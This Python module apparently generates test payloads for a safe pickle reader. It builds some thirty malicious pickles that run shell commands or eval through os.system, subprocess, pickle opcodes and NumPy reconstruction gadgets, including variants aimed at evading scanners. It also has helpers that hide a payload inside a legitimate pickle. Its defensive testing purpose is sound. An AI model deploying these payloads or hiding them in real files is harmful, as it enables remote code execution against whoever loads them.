"""Pickles that make Python's own reader run code, in every way that is documented.

Sources: the warnings in the documentation of `pickle`; "Sour Pickles" (Slaviero, Black
Hat 2011); reports on how the scanners Fickling and PickleScan were circumvented; the
code of `pickle` and of NumPy's own reconstruction functions.
"""

import pickletools
import struct

COMMAND = "echo ran"


def text(value: str) -> bytes:
    """Return the instruction that pushes a text."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def attacks(command: str = COMMAND) -> dict[str, bytes]:
    """Return, by name, pickle instructions that make Python's reader run `command`.

    Each leaves exactly one thing on the stack.
    """
    arg, code = text(command), text(f"__import__('os').system({command!r})")
    dotted = b"\x8c\x02os\x8c\x06system\x93"
    popen = b"csubprocess\nPopen\n"
    state = b"}" + text("x") + b"cos\nsystem\n" + b"s"
    return {
        "GLOBAL and REDUCE": b"cos\nsystem\n" + arg + b"\x85R",
        "GLOBAL of posix": b"cposix\nsystem\n" + arg + b"\x85R",
        "GLOBAL of nt": b"cnt\nsystem\n" + arg + b"\x85R",
        "eval": b"cbuiltins\neval\n" + code + b"\x85R",
        "eval by Python 2's name": b"c__builtin__\neval\n" + code + b"\x85R",
        "exec": b"cbuiltins\nexec\n" + code + b"\x85R",
        "subprocess": popen + b"(" + text("sh") + text("-c") + arg + b"t\x85R",
        "INST": b"(" + arg + b"ios\nsystem\n",
        "OBJ": b"(cos\nsystem\n" + arg + b"o",
        "NEWOBJ": popen + arg + b"\x85\x81",
        "NEWOBJ_EX": popen + arg + b"\x85}\x92",
        "STACK_GLOBAL": dotted + arg + b"\x85R",
        "STACK_GLOBAL of a dotted name": (
            b"\x8c\x06shutil\x8c\x09os.system\x93" + arg + b"\x85R"
        ),
        "names from the memo": (
            b"\x8c\x02os\x940\x8c\x06system\x940h\x00h\x01\x93" + arg + b"\x85R"
        ),
        "BUILD that sets __setstate__": (
            b"ctypes\nSimpleNamespace\n)R}"
            + (text("__setstate__") + b"cos\nsystem\nsb" + arg + b"b")
        ),
        "BUILD on a known function": b"cnumpy\ndtype\n" + state + b"b",
        "BUILD that sets an attribute": b"cnumpy\ndtype\nN" + state + b"\x86b",
        "BUILD on an array": (
            b"cnumpy.core.multiarray\n_reconstruct\n"
            b"(cnumpy\nndarray\n(K\x00tC\x01btR" + state + b"b"
        ),
        "_reconstruct of another class": (
            b"cnumpy.core.multiarray\n_reconstruct\n(" + popen + arg + b"C\x01btR"
        ),
        "an array of objects": (
            b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(K\x00tC\x01btR"
            b"(K\x01(K\x01tcnumpy\ndtype\n(" + text("O8") + b"\x89\x88tR\x89"
            b"](cos\nsystem\n" + arg + b"\x85Retb"
        ),
        "a scalar of objects": (
            b"cnumpy.core.multiarray\nscalar\n(cnumpy\ndtype\n("
            + (text("O8") + b"\x89\x88tRC\x01xtR")
        ),
        "numpy's own eval": (
            b"cnumpy.testing._private.utils\nrunstring\n(" + code + b"}tR"
        ),
        "numpy.load": b"cnumpy\nload\n(" + text("x.npy") + b"N\x88tR",
        "a codec other than latin1": (
            b"c_codecs\nencode\n(" + arg + text("unicode_escape") + b"tR"
        ),
        "EXT1 of the registry": b"\x82\x01" + arg + b"\x85R",
        "EXT2 of the registry": b"\x83\x01\x00" + arg + b"\x85R",
        "EXT4 of the registry": b"\x84\x01\x00\x00\x00" + arg + b"\x85R",
        "PERSID": b"Pos.system\n",
        "BINPERSID": arg + b"Q",
        "NEXT_BUFFER": b"\x97",
        "getattr through builtins": (
            b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n"
            + (text("os") + b"\x85R" + text("system") + b"tR" + arg + b"\x85R")
        ),
        "map, lazily": (
            b"cbuiltins\nlist\ncbuiltins\nmap\n(cos\nsystem\n(" + (arg + b"ltR\x85R")
        ),
        "our own reader's innards": (
            b"ctraining_scripts.plain_pickle\nnp.testing._private.utils.runstring\n("
            + (code + b"}tR")
        ),
        "a fact that is a function": b"cos\nsystem\n",
        "the array class, called": b"cnumpy\nndarray\n(K\x05tR",
    }


def alone(attack: bytes) -> bytes:
    """Return the attack as a pickle of its own."""
    return b"\x80\x04" + attack + b"."


def hidden(attack: bytes, good: bytes) -> bytes:
    """Return a good pickle that runs the attack first, and drops its result."""
    return b"\x80\x04" + attack + b"0" + _unframed(good)


def as_fact(attack: bytes, good: bytes) -> bytes:
    """Return a good pickle of a dict with the attack as one more value."""
    return b"\x80\x04" + _unframed(good)[:-1] + text("note") + attack + b"s."


def _unframed(good: bytes) -> bytes:
    """Return the program of a pickle without its header and its frames."""
    return b"".join(
        raw for name, _, raw in instructions(good) if name not in ("PROTO", "FRAME")
    )


def instructions(content: bytes) -> list[tuple]:
    """Return (name, argument, bytes) of each instruction."""
    found = list(pickletools.genops(content))
    ends = [position for _, _, position in found[1:]] + [len(content)]
    return [
        (opcode.name, argument, content[start:end])
        for (opcode, argument, start), end in zip(found, ends, strict=True)
    ]
